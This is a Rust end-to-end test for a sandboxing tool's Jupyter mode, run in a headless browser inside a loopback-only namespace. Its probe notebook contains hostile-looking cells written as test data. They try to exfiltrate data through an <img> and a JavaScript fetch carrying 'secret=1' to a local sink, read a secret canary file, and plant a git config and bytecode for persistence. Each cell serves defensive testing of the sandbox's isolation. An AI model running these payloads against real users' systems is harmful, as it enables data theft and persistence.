//! `seal jupyter` end to end, in a real headless Chromium (Debian's chromium + chromedriver,
//! driven by tests/browser/jupyter_e2e.py), as root and as uid 65534.
//!
//! JupyterLab is installed with `seal install` from PyPI (skipped, loudly, with
//! SEAL_TEST_NO_PYPI=1). Then the browser, chromedriver and `seal jupyter` all run inside a
//! network namespace this test creates with only `lo`: the browser cannot reach anything but
//! loopback, even though Chromium tries to contact its vendor on its own.
//!
//! The notebook's cells: 2+2; a connection to the sink listening on the host's 127.0.0.1 (host
//! loopback: must be refused from inside the sandbox); a read of a canary in the user's HOME
//! (must not be found); a request to the one host `--allow-net` names (a server on the test
//! namespace's loopback, reached by name through seal's proxy: must arrive). Cookies stored for 127.0.0.1 and localhost (as other local web services
//! would leave them) must not be visible to the lab's page, which has a loopback address of its
//! own; a cookie of the lab's own origin is the control. Without the token the lab must not be
//! served. A screenshot of each run is kept in target/tmp/.

mod support;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use support::cli::*;

const DRIVER: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/browser/jupyter_e2e.py");
const HOST_PORT: u16 = 8899;
/// A listener in the test's namespace, standing for another site the page might send data to.
const SINK_PORT: u16 = 8900;
/// A server on the test namespace's loopback that the lab may reach by name, through seal's
/// proxy (`--allow-net localhost:8901`); the sink stays out of reach.
const ALLOWED_PORT: u16 = 8901;

fn have(program: &str) -> bool {
    Command::new("sh")
        .args(["-c", &format!("command -v {program} >/dev/null")])
        .status()
        .is_ok_and(|s| s.success())
}

/// Why this machine cannot run the test, if it cannot.
fn unavailable() -> Option<String> {
    if std::env::var_os("SEAL_TEST_NO_PYPI").is_some() {
        return Some("SEAL_TEST_NO_PYPI is set (JupyterLab comes from PyPI)".into());
    }
    if !is_root() {
        return Some("not root: the test's network namespace needs root to create".into());
    }
    let chromium = Path::new("/usr/lib/chromium/chromium").exists();
    for (ok, what) in [
        (chromium, "chromium"),
        (have("chromedriver"), "chromedriver"),
        (have("unshare"), "unshare"),
        (have("ip"), "ip (iproute2)"),
        (have("setpriv"), "setpriv"),
    ] {
        if !ok {
            return Some(format!(
                "{what} is not installed (.ci/run installs chromium chromium-driver iproute2)"
            ));
        }
    }
    None
}

struct Variant {
    name: &'static str,
    uid: Option<u32>,
}

fn as_user(uid: Option<u32>, cmd: &mut Command) {
    use std::os::unix::process::CommandExt;
    if let Some(u) = uid {
        cmd.uid(u).gid(u);
    }
}

/// `seal install jupyterlab` into a fresh project, as the variant's user.
fn install_jupyterlab(bin: &Path, project: &Path, home: &Path, uid: Option<u32>) {
    let mut c = Command::new(bin);
    c.args(["install", "--python", "/usr/bin/python3", "jupyterlab"])
        .current_dir(project)
        .env_clear()
        .env("PATH", "/usr/bin:/bin")
        .env("HOME", home)
        .stdin(Stdio::null());
    for k in ["HTTPS_PROXY", "https_proxy", "PIP_CERT", "SSL_CERT_FILE"] {
        if let Some(v) = std::env::var_os(k) {
            c.env(k, v);
        }
    }
    as_user(uid, &mut c);
    let o = c.output().unwrap();
    assert!(o.status.success(), "seal install jupyterlab: {}", text(&o));
}

/// Run the driver in a new network namespace with only `lo`, as the variant's user, with a
/// clean environment whose HOME, XDG and Jupyter directories are in `home`.
fn driver(uid: Option<u32>, home: &Path, tmp: &Path, args: &[String]) -> Output {
    let mut inner: Vec<String> = Vec::new();
    if let Some(u) = uid {
        inner.extend([
            "setpriv".into(),
            format!("--reuid={u}"),
            format!("--regid={u}"),
            "--clear-groups".into(),
        ]);
    }
    let h = home.display();
    inner.extend([
        "env".into(),
        "-i".into(),
        "PATH=/usr/bin:/bin".into(),
        format!("HOME={h}"),
        format!("TMPDIR={}", tmp.display()),
        format!("XDG_CONFIG_HOME={h}/.config"),
        format!("XDG_CACHE_HOME={h}/.cache"),
        format!("XDG_RUNTIME_DIR={h}/run"),
        "/usr/bin/python3".into(),
        DRIVER.into(),
    ]);
    inner.extend(args.iter().cloned());
    Command::new("unshare")
        .args([
            "--net",
            "--",
            "sh",
            "-c",
            "ip link set lo up && exec \"$@\"",
            "sh",
        ])
        .args(&inner)
        .stdin(Stdio::null())
        .output()
        .unwrap()
}

fn last_json_line(o: &Output) -> String {
    String::from_utf8_lossy(&o.stdout)
        .lines()
        .rev()
        .find(|l| l.starts_with('{'))
        .unwrap_or("")
        .to_string()
}

/// Scheme, host and port of the URL the driver's last run used.
fn served_origin(o: &Output) -> String {
    let line = last_json_line(o);
    let v: serde_json::Value = serde_json::from_str(&line).unwrap_or_default();
    let url = v["url"].as_str().unwrap_or("").to_string();
    match url
        .find("://")
        .and_then(|i| url[i + 3..].find('/').map(|j| i + 3 + j))
    {
        Some(end) => url[..end].to_string(),
        None => url,
    }
}

fn keep_artifact(from: &Path, name: &str) {
    let dir = PathBuf::from(env!("CARGO_TARGET_TMPDIR"));
    let _ = std::fs::create_dir_all(&dir);
    if std::fs::copy(from, dir.join(name)).is_ok() {
        eprintln!("screenshot: {}", dir.join(name).display());
    }
}

#[test]
fn jupyter_in_a_real_browser_runs_cells_and_keeps_the_host_out_of_reach() {
    if let Some(why) = unavailable() {
        eprintln!("WARNING: the browser end-to-end test of seal jupyter is SKIPPED: {why}");
        return;
    }
    let variants = [
        Variant {
            name: "root",
            uid: None,
        },
        Variant {
            name: "uid65534",
            uid: Some(NOBODY),
        },
    ];
    for v in variants {
        let dir = tempfile::tempdir().unwrap();
        let bin = copy_binary(dir.path());
        let (project, home, tmp) = (
            dir.path().join("proj"),
            dir.path().join("home"),
            dir.path().join("tmp"),
        );
        for d in [&project, &home, &tmp] {
            std::fs::create_dir(d).unwrap();
        }
        let canary = home.join("canary.txt");
        std::fs::write(&canary, "secret\n").unwrap();
        std::fs::set_permissions(&canary, std::fs::Permissions::from_mode(0o600)).unwrap();
        if let Some(u) = v.uid {
            for d in [&project, &home, &tmp] {
                chown_tree(d, u);
            }
        }
        install_jupyterlab(&bin, &project, &home, v.uid);

        let cells = [
            "print(2+2)".to_string(),
            format!(
                "import socket\ntry:\n    socket.create_connection(('127.0.0.1', {SINK_PORT}), timeout=3).close()\n    print('HOST LOOPBACK REACHED')\nexcept OSError as e:\n    print('REFUSED', type(e).__name__)"
            ),
            format!(
                "try:\n    open({:?}).read()\n    print('CANARY FOUND')\nexcept OSError as e:\n    print('NOT FOUND', type(e).__name__)",
                canary.display().to_string()
            ),
            // Code in the sandbox making the user's browser carry data out: an image and a
            // fetch to another origin (a sink on the test namespace's loopback, which the
            // browser could reach). The bridge's Content-Security-Policy must block both.
            format!(
                "from IPython.display import HTML, Javascript, display\ndisplay(HTML('<img src=\"http://127.0.0.1:{SINK_PORT}/img?secret=1\">'))\ndisplay(Javascript('fetch(\"http://127.0.0.1:{SINK_PORT}/fetch?secret=1\").catch(() => {{}})'))\nprint('EXFIL ATTEMPTED')"
            ),
            // Host persistence through the writable notebook directory: a nested git config
            // and planted bytecode. seal removes the bytecode after the run and warns about
            // the rest.
            // The one host named by --allow-net, through the proxy variables seal sets.
            format!(
                "import urllib.error, urllib.request\ntry:\n    urllib.request.urlopen('http://localhost:{ALLOWED_PORT}/allowed', timeout=10)\nexcept urllib.error.HTTPError as e:\n    print('ALLOWED', e.code)"
            ),
            "import os\nos.makedirs('sub/.git', exist_ok=True)\nopen('sub/.git/config', 'w').write('[core]\\n')\nos.makedirs('__pycache__', exist_ok=True)\nopen('__pycache__/planted.cpython-311.pyc', 'wb').write(b'x')\nprint('PLANTED')".to_string(),
        ];
        let mut write = Command::new("/usr/bin/python3");
        write
            .arg(DRIVER)
            .arg("write-notebook")
            .arg(project.join("probe.ipynb"));
        for c in &cells {
            write.arg("--cell").arg(c);
        }
        as_user(v.uid, &mut write);
        let o = write.output().unwrap();
        assert!(o.status.success(), "write-notebook: {}", text(&o));

        let sink_log = tmp.join("sink.log");
        let allowed_log = tmp.join("allowed.log");
        let server = format!(
            "sh -c 'python3 -u -m http.server {SINK_PORT} --bind 127.0.0.1 >{} 2>&1 & python3 -u -m http.server {ALLOWED_PORT} --bind 127.0.0.1 >{} 2>&1 & exec {} jupyter --port {HOST_PORT} --allow-net localhost:{ALLOWED_PORT} --project {}'",
            sink_log.display(),
            allowed_log.display(),
            bin.display(),
            project.display()
        );
        let shot = tmp.join("jupyter.png");
        let expect = r#"[{"contains": "4"}, {"contains": "REFUSED", "not_contains": "REACHED"}, {"contains": "NOT FOUND", "not_contains": "CANARY FOUND"}, {"contains": "EXFIL ATTEMPTED"}, {"contains": "ALLOWED 404"}, {"contains": "PLANTED"}]"#;
        let o = driver(
            v.uid,
            &home,
            &tmp,
            &[
                "run".into(),
                "--server".into(),
                server.clone(),
                "--notebook".into(),
                "probe.ipynb".into(),
                "--expect".into(),
                expect.into(),
                "--screenshot".into(),
                shot.display().to_string(),
                // What another local web service would have left in the browser: not for this
                // page (no request reaches the sink: the cookie is stored through DevTools).
                "--foreign-cookie".into(),
                format!("http://127.0.0.1:{SINK_PORT}/"),
                "--foreign-cookie".into(),
                format!("http://localhost:{SINK_PORT}/"),
            ],
        );
        keep_artifact(&shot, &format!("jupyter-e2e-{}.png", v.name));
        assert!(
            o.status.success(),
            "{}: the notebook run failed: {}\n{}",
            v.name,
            last_json_line(&o),
            text(&o)
        );
        // The page had an origin of its own: no cookies shared with 127.0.0.1's services.
        let origin = served_origin(&o);
        assert!(
            origin.starts_with("http://127.")
                && !origin.starts_with("http://127.0.")
                && origin.ends_with(&format!(":{HOST_PORT}")),
            "{}: seal jupyter served on {origin:?}, not on an address of its own",
            v.name
        );

        assert!(
            project.join("sub/.git/config").exists(),
            "{}: the notebook ran its cells in the project",
            v.name
        );
        assert!(
            !project.join("__pycache__/planted.cpython-311.pyc").exists(),
            "{}: bytecode written during the run was left for the host to run",
            v.name
        );
        let allowed = std::fs::read_to_string(&allowed_log).unwrap_or_default();
        assert!(
            allowed.contains("\"GET /allowed HTTP/1.1\" 404"),
            "{}: the --allow-net host did not see the notebook's request: {allowed}",
            v.name
        );
        let sink = std::fs::read_to_string(&sink_log).unwrap_or_default();
        assert!(
            sink.contains("Serving HTTP") && !sink.contains("GET"),
            "{}: the browser reached the sink (or the sink never ran): {sink}",
            v.name
        );

        // Control for the cookie check: on the usual 127.0.0.1 the page does see a cookie left
        // for another port of 127.0.0.1 (cookies are per host, not per port).
        let shared = server.replace(
            " jupyter --port",
            " jupyter --publish-addr 127.0.0.1 --port",
        );
        assert_ne!(shared, server);
        let o = driver(
            v.uid,
            &home,
            &tmp,
            &[
                "run".into(),
                "--server".into(),
                shared,
                "--notebook".into(),
                "probe.ipynb".into(),
                "--foreign-cookie".into(),
                format!("http://127.0.0.1:{SINK_PORT}/"),
            ],
        );
        assert!(
            !o.status.success()
                && last_json_line(&o).contains("the page sees cookies of other local origins"),
            "{}: on 127.0.0.1 the page should see 127.0.0.1's cookies (the control): {}\n{}",
            v.name,
            last_json_line(&o),
            text(&o)
        );

        // The same server without the token: the lab is not served (Jupyter's login page).
        let o = driver(
            v.uid,
            &home,
            &tmp,
            &[
                "check-refused".into(),
                "--server".into(),
                server,
                "--path".into(),
                "/lab".into(),
            ],
        );
        assert!(
            o.status.success(),
            "{}: the lab was served without the token: {}\n{}",
            v.name,
            last_json_line(&o),
            text(&o)
        );
        let notebook = std::fs::read_to_string(project.join("probe.ipynb")).unwrap();
        assert!(
            notebook.contains("print(2+2)"),
            "the notebook is still there"
        );

        opens_the_browser_without_the_token_on_a_command_line(&bin, &project, &home, &tmp, v.uid);
    }
}

/// In a graphical session seal opens the user's browser with xdg-open, handing it a private
/// redirect file: the token never appears on a command line (readable by every user).
fn opens_the_browser_without_the_token_on_a_command_line(
    bin: &Path,
    project: &Path,
    home: &Path,
    tmp: &Path,
    uid: Option<u32>,
) {
    let fake_bin = tmp.join("fakebin");
    std::fs::create_dir_all(&fake_bin).unwrap();
    let log = tmp.join("xdg-open.log");
    std::fs::write(
        fake_bin.join("xdg-open"),
        format!(
            "#!/bin/sh\n{{ echo \"ARG $1\"; stat -c 'MODE %a' \"$1\"; cat \"$1\"; }} > {0}.part && mv {0}.part {0}\n",
            log.display()
        ),
    )
    .unwrap();
    std::fs::set_permissions(
        fake_bin.join("xdg-open"),
        std::fs::Permissions::from_mode(0o755),
    )
    .unwrap();
    if let Some(u) = uid {
        chown_tree(&fake_bin, u);
    }
    let mut c = Command::new(bin);
    // The usual address when asked for (the other run covers the default, an address of the
    // run's own).
    c.args([
        "jupyter",
        "--port",
        &HOST_PORT.to_string(),
        "--publish-addr",
        "127.0.0.1",
    ])
    .current_dir(project)
    .env_clear()
    .env("PATH", format!("{}:/usr/bin:/bin", fake_bin.display()))
    .env("HOME", home)
    .env("DISPLAY", ":99")
    .stdin(Stdio::null())
    .stdout(Stdio::null())
    .stderr(Stdio::piped());
    as_user(uid, &mut c);
    let child = c.spawn().unwrap();
    let start = std::time::Instant::now();
    while !log.exists() && start.elapsed() < std::time::Duration::from_secs(120) {
        std::thread::sleep(std::time::Duration::from_millis(200));
    }
    let _ = Command::new("kill")
        .args(["-TERM", &child.id().to_string()])
        .status();
    let out = child.wait_with_output().unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    let got = std::fs::read_to_string(&log).unwrap_or_default();
    let token: String = stderr
        .lines()
        .find(|l| l.starts_with("seal:     http"))
        .and_then(|l| l.split("/lab?token=").nth(1))
        .unwrap_or("")
        .chars()
        .take_while(char::is_ascii_hexdigit)
        .collect();
    assert_eq!(
        token.len(),
        64,
        "seal printed the URL with its token: {stderr}"
    );
    let arg = got.lines().next().unwrap_or("");
    assert!(
        arg.starts_with("ARG /") && !arg.contains(&token),
        "xdg-open got a file, not the token: {got}"
    );
    assert!(
        got.contains("MODE 600"),
        "the redirect file is private: {got}"
    );
    assert!(
        got.contains(&format!("http://127.0.0.1:{HOST_PORT}/lab?token={token}")),
        "the redirect file leads to the lab: {got}"
    );
}
